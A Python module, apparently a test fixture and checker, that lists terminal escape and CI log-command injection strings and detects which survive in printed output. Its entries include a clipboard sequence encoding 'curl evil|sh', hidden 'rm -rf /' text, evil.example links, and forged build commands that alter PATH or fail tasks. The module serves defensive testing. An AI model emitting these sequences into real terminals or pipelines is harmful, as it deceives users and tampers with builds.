"""Text that a terminal or a CI system would obey, and whether any is left in what was printed."""

from __future__ import annotations

import re

ATTACKS = {
    "a title": "\x1b]0;pwned\x07",
    "a title that ends otherwise": "\x1b]2;pwned\x1b\\",
    "a title without an end": "\x1b]0;pwned",
    "the clipboard": "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
    "a link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "a notification": "\x1b]9;pwned\x07\x1b]777;notify;a;b\x07",
    "an image": "\x1b]1338;url=https://evil.example\x07\x1b]1337;File=inline=1:AAAA\x07",
    "a device control string": '\x1bP$q"p\x1b\\\x1bP+q544e\x1b\\',
    "an application command": "\x1b_bk;t=1\x07\x1b_Gf=100;AAAA\x1b\\",
    "a privacy message": "\x1b^pwned\x1b\\\x1bXpwned\x1b\\",
    "erasing": "\x1b[2J\x1b[H\x1b[3J\x1b[2K\x1b[1A",
    "another screen": "\x1b[?1049h",
    "reports": "\x1b[6n\x1b[c\x1b[>c\x1b[21t\x1b[5n",
    "hidden text": "\x1b[8mrm -rf /\x1b[0m",
    "hidden text behind half a colour": "\x1b[38;8mrm -rf /\x1b[48:5;8mx\x1b[38:2:1:2;8mx\x1b[58;3;8mx\x1b[38;5mx",
    "hidden text by a number that runs over": "\x1b[4294967304mrm -rf /\x1b[264mx",
    "hidden text for one who knows no colons": "\x1b[4:8mrm -rf /\x1b[38:2::1:8:1mx\x1b[1:2:3mx",
    "fillers": "\u3164::error::x rm\u115f\u1160\uffa0\u2800\u034f -rf\u180b\u17b4 /",
    "a text in what selects a letter's form": "x\ufe01\ufe02\U000e0150\U000e0151\ufe0f",
    "a colour without an end": "\x1b[31;1mred",
    "colours within a command": "#\x1b[0m#vso[task.complete result=Failed;]x",
    "a reset": "\x1bc\x1b(0\x1b#8\x1b>\x1b=",
    "eight bits": "\x9b2J\x9d0;pwned\x9c\x90q\x9c\x9fbk\x9c\x85\x84\x8d",
    "a bell": "\x07\x07",
    "backspaces": "rm -rf /\b\b\b\b\b\b\b\becho ok",
    "a carriage return": "evil\rharmless",
    "a carriage return before a command": "x\r::error::pwned",
    "feeds": "a\vb\fc",
    "shifts": "\x0e\x0f\x05\x7f",
    "NUL": "a\x00b",
    "bidirectional overrides": "\u202epwned\u202c \u2066x\u2069 \u200f\u200e\u061c",
    "nothing to be seen": "pw\u200bn\u2060e\ufeffd\u00ad\u180e",
    "tags": "x\U000e0061\U000e0062",
    "other line ends": "x\u2028::error::a\u2029##[error]b\x1c\x1d\x1e",
    "half characters": "\udfff\ud800 \udcff",
    "GitHub": "::error file=a,line=1::pwned\n  ::set-output name=a::b\n\t::add-mask::a\n\u3000::stop-commands::x",
    "GitHub, of old": "x ##[add-path]/tmp ##[set-env name=PATH;]/tmp",
    "Azure Pipelines": "##vso[task.setvariable variable=PATH]/tmp\nx ##VSO[task.complete result=Failed;]",
    "Azure Pipelines' forms": "##[section]x ##[group]y",
    "TeamCity": "##teamcity[buildStatus text='pwned']",
    "GitLab": "section_start:1560896352:my[collapsed=true]\r\x1b[0Kx\nsection_end:1560896353:my\r\x1b[0K",
    "Buildkite": "--- group\n+++ open\n~~~ muted\n^^^ +++",
    "three hashes": "###vso[task.complete]####[error]x",
    "an escape within an escape": "\x1b\x1b[31m[2J\x1b]0;\x1b[31mpwned\x07",
    "a command that an escape hides": "\x1b]0;x\x07::error::y\n#\x1b[K#[error]z\n:\x1b[K:error::y",
}
_SHOWN_COLOR = re.compile(r"\x1b\[[0-9;:]*m")
_HARMLESS_COLOR = re.compile(
    r"\x1b\[(?:(?:[345]8;5;\d{0,3}|[345]8;2(?:;\d{0,3}){3}|(?!0*[568][;m]|[345]8[;m])\d{0,3})(?:;|(?=m)))*m"
)
_UNSEEN = "\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u2800\u3164\uffa0"
_SELECTORS = re.compile("[\ufe00-\ufe0f\U000e0100-\U000e01ef]{2}")
_COMMANDS = re.compile(
    r"##\[|##vso\[|##teamcity\[|section_(?:start|end):|^\s*::[A-Za-z]|^(?:---|\+\+\+|~~~|\^\^\^) ", re.I | re.M
)


def obeyed(printed: str, *, color: bool = False) -> list[str]:
    """What in `printed` a terminal or a CI system would still obey; with `color`, colours that end with their line may
    be there."""
    found = []
    for line in printed.split("\n"):
        colors = _SHOWN_COLOR.findall(line)
        if colors and (not color or not line.endswith("\x1b[0m")):
            found.append(f"a colour in {line!r}")
        if not all(map(_HARMLESS_COLOR.fullmatch, colors)):
            found.append(f"hidden text in {line!r}")
    plain = _SHOWN_COLOR.sub("", printed)
    joined = re.sub("(?<=[^\x00-\x9f])[\u200c\u200d](?=[^\x00-\x9f])", "", plain)
    found += [f"{c!r} in {plain!r}" for c in joined if c in _UNSEEN or (c not in "\n\t" and not c.isprintable())]
    found += [f"a row of {pair!r}" for pair in _SELECTORS.findall(plain)]
    return found + [f"{command!r}" for command in _COMMANDS.findall(plain)]
